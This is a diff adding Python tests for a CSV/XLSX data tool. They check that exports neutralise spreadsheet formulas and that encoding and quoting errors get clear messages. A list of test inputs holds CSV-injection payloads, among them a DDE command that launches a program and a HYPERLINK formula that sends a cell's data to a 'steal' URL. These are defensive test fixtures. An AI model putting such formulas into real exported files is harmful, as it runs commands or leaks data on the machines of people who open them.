@@ -472,3 +472,93 @@ def test_the_writer_stores_each_text_once_in_a_shared_string_table(tmp_path: Pat
     assert strings.count(">a1<") == 1
     book = openpyxl.load_workbook(tmp_path / "out.xlsx")
     assert [c.value for c in book["trust_ratings"][2]] == ["a1", "s1", "p1", "p2", 7.5, "CEO", None]
+
+
+# ---------------------------------------------------------------------------------------------- CSV safety
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org/steal?x="&A1,"click")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "\tstarts with a tab",
+    "\rstarts with a carriage return",
+    "'=already quoted once",
+    "''+quoted twice",
+    "'just an apostrophe",
+]
+
+
+def test_the_csv_export_neutralises_formulas_and_reads_them_back_unchanged(tmp_path: Path) -> None:
+    import csv
+
+    data = read_path(write_folder(tmp_path / "in", GOOD)).data
+    data.alliances.loc[:, ["trust_min", "trust_max"]] = [-5.0, 5.0]  # negative numbers are numbers: untouched
+    data.trust_ratings.loc[:, "score"] = [-2.5, 0.0, 5.0]
+    data.trust_ratings.loc[:, "comment"] = FORMULAS[:3]
+    data.trust_ratings.loc[:, "respondent"] = FORMULAS[3:6]
+    data.agreements.loc[:, "note"] = FORMULAS[6:8]
+    data.sessions.loc[:, "title"] = FORMULAS[8:10]
+    assert validate_data(data) == []
+    out = write_path(data, tmp_path / "out")
+    with open(out / "trust_ratings.csv", encoding="utf-8", newline="") as fh:
+        ratings = list(csv.DictReader(fh))
+    assert [r["comment"] for r in ratings] == ["'" + f for f in FORMULAS[:3]]
+    assert [r["respondent"] for r in ratings] == ["'+1+1", "'-2+3", "'\tstarts with a tab"]
+    assert [r["score"] for r in ratings] == ["-2.5", "0", "5"]
+    with open(out / "sessions.csv", encoding="utf-8", newline="") as fh:
+        assert [r["title"] for r in csv.DictReader(fh)] == ["'''+quoted twice", "'just an apostrophe"]
+    with open(out / "alliances.csv", encoding="utf-8", newline="") as fh:
+        assert [(r["trust_min"], r["trust_max"]) for r in csv.DictReader(fh)] == [("-5", "5")]
+    # no cell of the export starts with what a spreadsheet would run
+    for file in out.glob("*.csv"):
+        with open(file, encoding="utf-8", newline="") as fh:
+            text_cells = [c for row in list(csv.reader(fh))[1:] for c in row if not re.fullmatch(r"-?[\d.]+", c)]
+        assert not [c for c in text_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], file
+    back = read_path(out).data
+    assert back.equals(data)
+    assert list(back.trust_ratings["comment"]) == FORMULAS[:3]
+    assert list(back.sessions["title"]) == FORMULAS[8:10]
+
+
+def test_an_unterminated_quote_at_the_end_is_an_error_naming_its_line(tmp_path: Path) -> None:
+    tables = dict(GOOD, trust_ratings=[*GOOD["trust_ratings"], 'a1,s2,p1,p2,6,,"never closed'])
+    found = problems_of(write_folder(tmp_path / "in", tables))
+    assert [(p.table, p.row) for p in found] == [("trust_ratings.csv", 5)]
+    assert found[0].reason == 'a quoted value that starts on line 5 is never closed (a " is missing)'
+
+
+def test_one_invalid_utf8_byte_is_one_problem_with_its_line(tmp_path: Path) -> None:
+    folder = write_folder(tmp_path / "in", GOOD)
+    raw = (folder / "partners.csv").read_bytes().replace("één".encode(), b"\xe9\xe9n")  # Latin-1, not UTF-8
+    (folder / "partners.csv").write_bytes(raw)
+    found = problems_of(folder)
+    assert [(p.table, p.row, p.column) for p in found] == [("partners.csv", 2, None)]
+    assert found[0].reason == "is not UTF-8 text: byte 0xE9 at line 2 (save it as 'CSV UTF-8')"
+
+
+def test_a_double_byte_order_mark_reads_fine_with_a_warning(tmp_path: Path) -> None:
+    folder = write_folder(tmp_path / "in", GOOD, bom=True)
+    (folder / "sessions.csv").write_bytes(b"\xef\xbb\xbf" + (folder / "sessions.csv").read_bytes())
+    result = read_path(folder)
+    assert len(result.data.sessions) == 2
+    assert [(w.table, w.row) for w in result.warnings] == [("sessions.csv", 1)]
+    assert "byte-order mark twice" in result.warnings[0].reason
+
+
+def test_an_unreadable_csv_file_is_a_clear_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import errno
+
+    folder = write_folder(tmp_path / "in", GOOD)
+    real = Path.read_bytes
+
+    def failing(self: Path) -> bytes:
+        if self.name == "partners.csv":
+            raise OSError(errno.EIO, "Input/output error")
+        return real(self)
+
+    monkeypatch.setattr(Path, "read_bytes", failing)
+    with pytest.raises(UserError) as info:
+        read_path(folder)
+    assert str(info.value) == f"{folder / 'partners.csv'} cannot be read: Input/output error"
